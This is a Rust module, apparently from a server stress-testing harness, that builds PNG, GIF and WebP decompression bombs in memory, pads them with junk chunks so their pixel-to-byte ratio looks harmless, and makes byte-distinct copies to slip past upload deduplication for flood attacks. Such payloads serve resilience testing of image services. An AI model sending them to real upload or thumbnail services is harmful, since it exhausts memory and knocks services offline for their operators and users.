//! The attack payloads, built in memory before the first server starts: decompression bombs whose
//! declared size is far beyond what any thumbnail needs, padded with a junk chunk so that the
//! pixels-per-byte ratio looks harmless, and small byte-distinct images for the floods.

use std::io::{Cursor, Write};

use flate2::Compression;
use flate2::write::ZlibEncoder;
use image::ImageEncoder;

/// A PNG chunk: length, type, data, CRC over type and data.
fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    let mut crc = crc32fast::Hasher::new();
    crc.update(kind);
    crc.update(data);
    out.extend_from_slice(&crc.finalize().to_be_bytes());
}

/// Bytes that differ with `salt` and do not compress.
fn junk(len: usize, salt: u64) -> Vec<u8> {
    let mut state = salt.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state as u8
        })
        .collect()
}

/// `png` with a private ancillary chunk (`jnKk`, which decoders skip) before `IEND`, holding
/// `data`: the same picture as other bytes, so uploads are not deduplicated.
pub fn png_with_junk(png: &[u8], data: &[u8]) -> Vec<u8> {
    let (body, iend) = png.split_at(png.len() - 12);
    let mut out = body.to_vec();
    chunk(&mut out, b"jnKk", data);
    out.extend_from_slice(iend);
    out
}

/// A transparent `side`×`side` RGBA PNG (all zero, deflated at level 9) with `pad` junk bytes.
pub fn png_bomb(side: u32, pad: usize, salt: u64) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&side.to_be_bytes());
    ihdr.extend_from_slice(&side.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"jnKk", &junk(pad, salt));
    let row = vec![0u8; 1 + side as usize * 4];
    let mut z = ZlibEncoder::new(Vec::new(), Compression::best());
    for _ in 0..side {
        z.write_all(&row).expect("deflate");
    }
    chunk(&mut out, b"IDAT", &z.finish().expect("deflate"));
    chunk(&mut out, b"IEND", &[]);
    out
}

/// GIF data sub-blocks: at most 255 bytes each, then the empty block.
fn sub_blocks(out: &mut Vec<u8>, data: &[u8]) {
    for piece in data.chunks(255) {
        out.push(piece.len() as u8);
        out.extend_from_slice(piece);
    }
    out.push(0);
}

/// A one-colour `width`×`height` GIF (LZW, 2-bit codes) with a `pad`-byte comment.
pub fn gif_bomb(width: u16, height: u16, pad: usize, salt: u64) -> Vec<u8> {
    let mut out = b"GIF89a".to_vec();
    out.extend_from_slice(&width.to_le_bytes());
    out.extend_from_slice(&height.to_le_bytes());
    // A global colour table of 4 entries.
    out.extend_from_slice(&[0x81, 0, 0]);
    out.extend_from_slice(&[0, 0, 0, 255, 255, 255, 0, 0, 0, 0, 0, 0]);
    out.extend_from_slice(&[0x21, 0xfe]);
    sub_blocks(&mut out, &junk(pad, salt));
    out.push(0x2c);
    out.extend_from_slice(&[0, 0, 0, 0]);
    out.extend_from_slice(&width.to_le_bytes());
    out.extend_from_slice(&height.to_le_bytes());
    out.push(0);
    const MIN_CODE_SIZE: u8 = 2;
    out.push(MIN_CODE_SIZE);
    let pixels = width as u64 * height as u64;
    sub_blocks(&mut out, &lzw(MIN_CODE_SIZE, pixels));
    out.push(0x3b);
    out
}

/// GIF's LZW of `count` pixels of colour 0, as the classic `compress` encodes: a code is written
/// with the current width, which grows once the next free code passes it; a full table is
/// cleared.
fn lzw(min_code_size: u8, count: u64) -> Vec<u8> {
    const MAX_CODES: usize = 4096;
    let clear = 1usize << min_code_size;
    let end = clear + 1;
    let initial_bits = min_code_size as u32 + 1;
    // Colour 0 is the only symbol, so the table is a chain: `next[code]` extends a run by one.
    let mut next = vec![0usize; MAX_CODES];
    let mut free = clear + 2;
    let mut bits = initial_bits;
    let (mut out, mut acc, mut held) = (Vec::new(), 0u64, 0u32);
    let mut put = |code: usize, width: u32, out: &mut Vec<u8>| {
        acc |= (code as u64) << held;
        held += width;
        while held >= 8 {
            out.push(acc as u8);
            acc >>= 8;
            held -= 8;
        }
    };
    let grow = |free: usize, bits: &mut u32| {
        let max = if *bits == 12 {
            MAX_CODES
        } else {
            (1 << *bits) - 1
        };
        if free > max && *bits < 12 {
            *bits += 1;
        }
    };
    put(clear, bits, &mut out);
    let mut current = 0usize;
    for _ in 1..count {
        if next[current] != 0 {
            current = next[current];
            continue;
        }
        put(current, bits, &mut out);
        grow(free, &mut bits);
        if free < MAX_CODES {
            next[current] = free;
            free += 1;
        } else {
            put(clear, bits, &mut out);
            next.iter_mut().for_each(|n| *n = 0);
            free = clear + 2;
            bits = initial_bits;
        }
        current = 0;
    }
    put(current, bits, &mut out);
    grow(free, &mut bits);
    put(end, bits, &mut out);
    put(0, 7, &mut out);
    out
}

/// A transparent `side`×`side` lossless WebP in the extended format, with a `pad`-byte `JUNK`
/// chunk after the image (unknown chunks are allowed there).
pub fn webp_bomb(side: u32, pad: usize, salt: u64) -> Vec<u8> {
    let pixels = vec![0u8; side as usize * side as usize * 4];
    let mut simple = Vec::new();
    image::codecs::webp::WebPEncoder::new_lossless(&mut simple)
        .write_image(&pixels, side, side, image::ExtendedColorType::Rgba8)
        .expect("encode webp");
    // RIFF size WEBP, then the one VP8L chunk.
    let vp8l = &simple[12..];
    let mut body = b"WEBP".to_vec();
    let mut vp8x = vec![0x10, 0, 0, 0];
    vp8x.extend_from_slice(&(side - 1).to_le_bytes()[..3]);
    vp8x.extend_from_slice(&(side - 1).to_le_bytes()[..3]);
    riff_chunk(&mut body, b"VP8X", &vp8x);
    body.extend_from_slice(vp8l);
    riff_chunk(&mut body, b"JUNK", &junk(pad, salt));
    let mut out = b"RIFF".to_vec();
    out.extend_from_slice(&(body.len() as u32).to_le_bytes());
    out.extend_from_slice(&body);
    out
}

fn riff_chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(kind);
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out.extend_from_slice(data);
    if data.len() % 2 == 1 {
        out.push(0);
    }
}

/// A byte-distinct copy of a bomb made by `png_bomb`, `gif_bomb` or `webp_bomb`: the same
/// picture with a small extra chunk (a comment in a GIF) numbered `copy`, made without encoding
/// the picture again.
pub fn bomb_copy(bomb: &[u8], copy: u64) -> Vec<u8> {
    let tag = copy.to_le_bytes();
    if bomb.starts_with(b"\x89PNG") {
        png_with_junk(bomb, &tag)
    } else if bomb.starts_with(b"GIF") {
        let mut out = bomb[..bomb.len() - 1].to_vec();
        out.extend_from_slice(&[0x21, 0xfe]);
        sub_blocks(&mut out, &tag);
        out.push(0x3b);
        out
    } else {
        let mut out = bomb.to_vec();
        riff_chunk(&mut out, b"JNKK", &tag);
        let size = (out.len() - 8) as u32;
        out[4..8].copy_from_slice(&size.to_le_bytes());
        out
    }
}

/// An RGB PNG of seeded noise, `side`×`side`: about 3 bytes per pixel, whatever the encoder.
pub fn noise_png(side: u32) -> Vec<u8> {
    let rgb = junk(side as usize * side as usize * 3, 7);
    let mut out = Cursor::new(Vec::new());
    image::codecs::png::PngEncoder::new_with_quality(
        &mut out,
        image::codecs::png::CompressionType::Fast,
        image::codecs::png::FilterType::NoFilter,
    )
    .write_image(&rgb, side, side, image::ExtendedColorType::Rgb8)
    .expect("encode png");
    out.into_inner()
}
